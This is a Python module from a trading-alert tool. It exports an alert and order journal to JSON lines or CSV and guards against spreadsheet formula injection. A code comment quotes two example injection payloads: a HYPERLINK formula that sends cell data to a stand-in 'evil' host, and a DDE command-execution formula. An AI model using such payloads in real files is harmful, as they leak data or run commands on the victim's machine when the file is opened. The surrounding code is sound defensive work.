"""``tvdesk export``: the journal as JSON lines or CSV, one record per alert.

Opens the journal read-only (it works while the engine runs) and never
migrates it.
"""

from __future__ import annotations

import csv
import json
import re
import sqlite3
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TextIO

from tvdesk.store.schema import SCHEMA_VERSION, connect, schema_version

ORDER_FIELDS = (
    "client_order_id",
    "exchange",
    "symbol",
    "side",
    "qty",
    "contracts",  # a perpetual order's size in contracts (v6); null on spot
    "mode",
    "status",
    "filled",
    "avg_price",
    "exchange_order_id",
)
ALERT_FIELDS = (
    "alert_id",
    "received_at",
    "client_ref",
    "status",
    "error",
    "message",
    "fields",
    "symbol",
    "side",
    "qty",
    "test",
    "outcome",
    "reason",
    "latency_ms",
    "trail",
    "replay_of",
    "duplicate_of",
    "count",
    "first_seen",
    "last_seen",
)


# A spreadsheet runs a cell that starts with one of these as a formula: an alert's text
# (`=HYPERLINK("http://evil/?"&A1, "click")`, `=cmd|' /c calc'!A1`) would act when the
# trader opens the export. OWASP's advice: start such a cell with an apostrophe.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Decided by the cell's content, not by its column: a cell that is a plain number in
# ASCII digits (a P&L of -12.5, a +3 adjustment) stays a number the sheet can add up;
# any other text starting with a formula character is escaped, in whatever column.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def spreadsheet_safe(value: Any) -> Any:
    """The cell as a spreadsheet shows it without running it (CSV only; JSONL is exact)."""
    if (
        isinstance(value, str)
        and value.startswith(_FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class ExportError(Exception):
    """The journal cannot be read; the message says why."""


def iso(ts: float | None) -> str | None:
    if ts is None:
        return None
    return datetime.fromtimestamp(ts, UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def open_readonly(path: Path) -> sqlite3.Connection:
    if not path.exists():
        raise ExportError(f"no journal at {path}: has tvdesk run with this --data-dir?")
    try:
        conn = connect(path, readonly=True)
        version = schema_version(conn)
    except sqlite3.Error as exc:
        raise ExportError(_damaged(path, exc)) from None
    # An older journal reads as it is: what later migrations added (v2 alerts.mode, v3 the
    # signed_bodies table, v6 orders.contracts) is read as absent (null).
    if not 1 <= version <= SCHEMA_VERSION:
        conn.close()
        raise ExportError(
            f"the journal {path} has schema {version}, this tvdesk reads {SCHEMA_VERSION}: "
            "start the matching tvdesk once (it migrates), then export"
        )
    return conn


def records(path: Path) -> Iterator[dict[str, Any]]:
    """Every journaled request in arrival order, with its orders.

    The journal is opened here, not at the first ``next()``: a missing or unreadable
    journal fails before the caller has written anything.
    """
    return _records(path, open_readonly(path))


def _records(path: Path, conn: sqlite3.Connection) -> Iterator[dict[str, Any]]:
    try:
        orders: dict[str, list[dict[str, Any]]] = {}
        for row in conn.execute("SELECT * FROM orders ORDER BY created_at, rowid"):
            have = row.keys()
            orders.setdefault(row["alert_id"], []).append(
                {name: row[name] if name in have else None for name in ORDER_FIELDS}
            )
        for row in conn.execute("SELECT * FROM alerts ORDER BY seq"):
            yield _alert_record(row, orders.get(row["alert_id"], []))
    # A damaged page, a missing table or column, a mangled JSON cell: found only while
    # reading, and said in one sentence, never as a traceback.
    except (sqlite3.Error, ValueError, TypeError, IndexError, OverflowError, OSError) as exc:
        raise ExportError(_damaged(path, exc)) from None
    finally:
        conn.close()


def _damaged(path: Path, exc: Exception) -> str:
    return (
        f"cannot read the journal {path} ({exc}): it is damaged or not a tvdesk journal. "
        "Restore it from a backup, or move it aside and tvdesk starts a new one"
    )


def _alert_record(row: sqlite3.Row, orders: list[dict[str, Any]]) -> dict[str, Any]:
    record: dict[str, Any] = {
        "alert_id": row["alert_id"],
        "received_at": iso(row["received_at"]),
        "client_ref": row["client_ref"],
        "status": row["status"],
        "error": row["error"],
        "message": row["message"],
        "symbol": row["symbol"],
        "side": row["side"],
        "qty": row["qty"],
        "test": bool(row["test"]),
        "outcome": row["outcome"],
        "reason": row["reason"],
        "latency_ms": json.loads(row["latency"] or "{}"),
        "trail": json.loads(row["trail"] or "[]"),
        "orders": orders,
    }
    if row["fields"]:
        record["fields"] = json.loads(row["fields"])
    if row["replay_of"]:
        record["replay_of"] = row["replay_of"]
    if row["duplicate_of"]:
        record["duplicate_of"] = row["duplicate_of"]
    if row["count"] > 1:
        record["count"] = row["count"]
        record["first_seen"] = iso(row["first_seen"])
        record["last_seen"] = iso(row["last_seen"])
    return record


def write_jsonl(rows: Iterable[dict[str, Any]], out: TextIO) -> int:
    n = 0
    for record in rows:
        out.write(json.dumps(record, ensure_ascii=False) + "\n")
        n += 1
    return n


def write_csv(rows: Iterable[dict[str, Any]], out: TextIO) -> int:
    """One row per order (an alert without orders is one row), same columns as JSONL."""
    columns = [*ALERT_FIELDS, *(f"order.{name}" for name in ORDER_FIELDS)]
    writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    n = 0
    for record in rows:
        base = {key: _cell(record.get(key)) for key in ALERT_FIELDS}
        base["latency_ms"] = json.dumps(record["latency_ms"])
        base["trail"] = json.dumps(record["trail"], ensure_ascii=False)
        if record.get("fields"):
            base["fields"] = json.dumps(record["fields"], ensure_ascii=False)
        for order in record["orders"] or [{}]:
            row = dict(base)
            row.update({f"order.{k}": _cell(order.get(k)) for k in ORDER_FIELDS})
            writer.writerow({key: spreadsheet_safe(value) for key, value in row.items()})
        n += 1
    return n


def _cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return value
